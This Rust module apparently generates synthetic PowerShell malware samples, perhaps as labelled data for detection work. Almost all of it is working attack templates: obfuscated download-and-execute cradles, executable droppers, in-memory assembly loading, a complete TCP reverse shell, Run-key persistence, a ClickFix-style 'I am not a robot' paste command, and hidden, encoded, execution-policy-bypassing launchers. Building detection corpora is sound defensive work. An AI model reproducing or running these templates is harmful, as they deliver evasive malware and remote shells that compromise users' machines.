//! PowerShell: cradles, stagers, what is pasted from a page, and downloaders of documents.

use super::super::{
    Dice, Truth, base64, codes, deflate, each, gzip, hex, keyed, quoted, reversed, wide, xored,
};
use super::{listed, only, stretched, table};

/// In brackets, so that it stands anywhere.
pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let name = only(dice);
    match dice.below(12) {
        0 => {
            let pieces = dice.pieces(text);
            let order = dice.order(pieces.len());
            let shown: Vec<String> = order.iter().map(|at| pieces[*at].clone()).collect();
            let form: String = (0..pieces.len())
                .map(|piece| {
                    let at = order.iter().position(|it| *it == piece).unwrap_or_default();
                    format!("{{{at}}}")
                })
                .collect();
            format!("(\"{form}\" -f {})", quoted(&shown, '\'').join(","))
        }
        1 => format!(
            "([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('{}')))",
            base64(text.as_bytes())
        ),
        2 => format!(
            "([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{}')))",
            base64(&wide(text))
        ),
        3 => format!("(-join ([char[]]({})))", codes(text.bytes(), ",")),
        4 => format!(
            "(-join ('{}'.Split(' ') | ForEach-Object {{ [char][Convert]::ToInt32($_, 16) }}))",
            each(text, " ", |byte| format!("{byte:02x}"))
        ),
        5 => {
            let mark = dice.pick(&["QQ", "ZX", "@", "#", "JJ"]);
            let littered = dice.littered(text, mark);
            format!("('{littered}'.Replace('{mark}',''))")
        }
        6 => {
            before.push_str(&format!("${name} = '{}'\n", reversed(text)));
            format!("(-join ${name}[-1..-(${name}.Length)])")
        }
        7 => {
            let key = dice.key();
            format!(
                "(-join (@({}) | % {{ [char]($_ -bxor {key}) }}))",
                codes(xored(text, key), ",")
            )
        }
        8 => {
            let (stream, packed) = if dice.chance(50) {
                ("GzipStream", gzip(text.as_bytes()))
            } else {
                ("DeflateStream", deflate(text.as_bytes()))
            };
            format!(
                "((New-Object IO.StreamReader((New-Object IO.Compression.{stream}((New-Object IO.MemoryStream(,[Convert]::FromBase64String('{}'))),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd())",
                base64(&packed)
            )
        }
        9 => {
            let width = 2 + dice.below(4);
            let long = stretched(dice, text, width);
            before.push_str(&format!("function {name} ($s) {{ $r = ''; for ($i = {width}; $i -lt $s.Length; $i += {}) {{ $r += $s.Substring($i, 1) }}; $r }}\n", width + 1));
            format!("({name} '{long}')")
        }
        10 => {
            let key = dice.name();
            before.push_str(&format!("function {name} ($h, $k) {{\n  $r = ''\n  for ($i = 0; $i -lt $h.Length; $i += 2) {{\n    $b = [Convert]::ToInt32($h.Substring($i, 2), 16)\n    $r += [char]($b -bxor [int][char]$k[($i / 2) % $k.Length])\n  }}\n  return $r\n}}\n"));
            format!("({name} '{}' '{key}')", hex(&keyed(text, &key)))
        }
        _ => {
            let (letters, places) = table(dice, text);
            before.push_str(&format!("${name} = '{letters}'\n"));
            format!("(-join ${name}[{}])", listed(places, ","))
        }
    }
}

fn layered(dice: &mut Dice, script: &str) -> String {
    match dice.below(10) {
        0 => format!(
            "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc {}\n",
            base64(&wide(script))
        ),
        1 => format!(
            "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{}')))\n",
            base64(script.as_bytes())
        ),
        2 => format!(
            "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String(\"{}\"));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();\n",
            base64(&gzip(script.as_bytes()))
        ),
        3 => format!(
            "-join ({} | ForEach-Object {{ [char]$_ }}) | Invoke-Expression\n",
            codes(script.bytes(), ",")
        ),
        _ => script.to_owned(),
    }
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = String::new();
    let file = dice.name();
    let script = match dice.below(13) {
        0 => {
            let url = truth.url(dice, &[".ps1", "", ".txt"]);
            let word = hide(dice, &url, &mut before);
            let run = dice.pick(&["IEX", "iex", "Invoke-Expression"]);
            format!("{before}{run} (New-Object Net.WebClient).DownloadString({word})\n")
        }
        1 => {
            let url = truth.url(dice, &["", ".ps1"]);
            let word = hide(dice, &url, &mut before);
            let verb = dice.pick(&[
                "iwr -UseBasicParsing",
                "irm",
                "Invoke-WebRequest -UseBasicParsing -Uri",
                "Invoke-RestMethod -Uri",
            ]);
            format!("{before}{verb} {word} | iex\n")
        }
        2 => {
            let url = truth.url(dice, &[".exe", ".dll", ""]);
            let word = hide(dice, &url, &mut before);
            format!(
                "{before}$p = \"$env:TEMP\\{file}.exe\"\n(New-Object System.Net.WebClient).DownloadFile({word}, $p)\nStart-Process -FilePath $p -WindowStyle Hidden\n"
            )
        }
        3 => {
            let (host, port) = truth.endpoint(dice);
            let word = hide(dice, &host, &mut before);
            format!(
                "{before}$client = New-Object System.Net.Sockets.TCPClient({word},{port});$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{{0}};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){{;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + 'PS ' + (pwd).Path + '> ';$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()}};$client.Close()\n"
            )
        }
        4 => {
            let url = truth.url(dice, &["", ".txt"]);
            let word = hide(dice, &url, &mut before);
            format!(
                "[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12\n{before}$req = [System.Net.WebRequest]::Create({word})\n$req.UserAgent = 'Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko'\n$res = $req.GetResponse()\n$rd = New-Object System.IO.StreamReader($res.GetResponseStream())\nInvoke-Expression $rd.ReadToEnd()\n"
            )
        }
        5 => {
            let url = truth.url(dice, &[".exe", ".zip", ".msi"]);
            let word = hide(dice, &url, &mut before);
            format!(
                "Import-Module BitsTransfer\n{before}Start-BitsTransfer -Source {word} -Destination \"$env:APPDATA\\{file}.bin\"\nStart-Process \"$env:APPDATA\\{file}.bin\"\n"
            )
        }
        6 => {
            // What the documents of a long campaign ran: one after the other.
            let urls: Vec<String> =
                (0..3 + dice.below(4)).map(|_| truth.url(dice, &["", "/", ".png"])).collect();
            let mark = dice.pick(&["@", "*", "|"]);
            let all = urls.join(mark);
            let word =
                if dice.chance(60) { format!("'{all}'") } else { hide(dice, &all, &mut before) };
            let (client, path) = (only(dice), only(dice));
            format!(
                "{before}${client}=New-Object Net.WebClient;${path}=$env:userprofile+'\\{}.exe';foreach($u in {word}.Split('{mark}')){{try{{${client}.DownloadFile($u,${path});Start-Process ${path}}}catch{{}}}}\n",
                100 + dice.below(900)
            )
        }
        7 => {
            let url = truth.url(dice, &["", "/"]);
            let word = hide(dice, &url, &mut before);
            let name = only(dice);
            format!(
                "{before}${name}=New-Object Net.WebClient;if([System.Net.WebProxy]::GetDefaultProxy().Address -ne $null){{${name}.Proxy=[Net.WebRequest]::GetSystemWebProxy();${name}.Proxy.Credentials=[Net.CredentialCache]::DefaultCredentials;}};IEX ${name}.DownloadString({word});\n"
            )
        }
        8 => {
            let url = truth.url(dice, &[".dll", ".exe", ".jpg"]);
            let word = hide(dice, &url, &mut before);
            format!(
                "{before}$b = (New-Object Net.WebClient).DownloadData({word})\n$a = [System.Reflection.Assembly]::Load($b)\n$a.EntryPoint.Invoke($null, @(,[string[]]@()))\n"
            )
        }
        9 => {
            let url = truth.url(dice, &["", ".txt"]);
            let word = hide(dice, &url, &mut before);
            format!(
                "{before}$h = New-Object -ComObject MSXML2.XMLHTTP\n$h.open('GET', {word}, $false)\n$h.send()\niex $h.responseText\n# Verification complete: I am not a robot\n"
            )
        }
        10 => {
            let url = truth.url(dice, &[".exe", ".zip"]);
            let word = hide(dice, &url, &mut before);
            let name = only(dice);
            format!(
                "{before}${name} = {word}\n$o = Join-Path $env:LOCALAPPDATA '{file}.exe'\nInvoke-WebRequest -Uri ${name} -OutFile $o -UseBasicParsing\nSet-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name '{file}' -Value $o\n& $o\n"
            )
        }
        11 => {
            let url = truth.url(dice, &["", ".exe"]);
            let word = hide(dice, &url, &mut before);
            format!(
                "{before}$l = {word}\ncurl.exe -s -L -o \"$env:TEMP\\{file}.exe\" $l\nStart-Sleep -Seconds 2\nStart-Process \"$env:TEMP\\{file}.exe\"\n"
            )
        }
        _ => {
            let url = truth.url(dice, &["", ".ps1"]);
            format!("powershell -w h -c \"iex(irm '{url}')\"\n")
        }
    };
    let script = match dice.below(6) {
        0 => format!("$ErrorActionPreference = 'SilentlyContinue'\n{script}"),
        1 => format!("# {file}\n$ProgressPreference = 'SilentlyContinue'\n{script}"),
        _ => script,
    };
    layered(dice, &script)
}
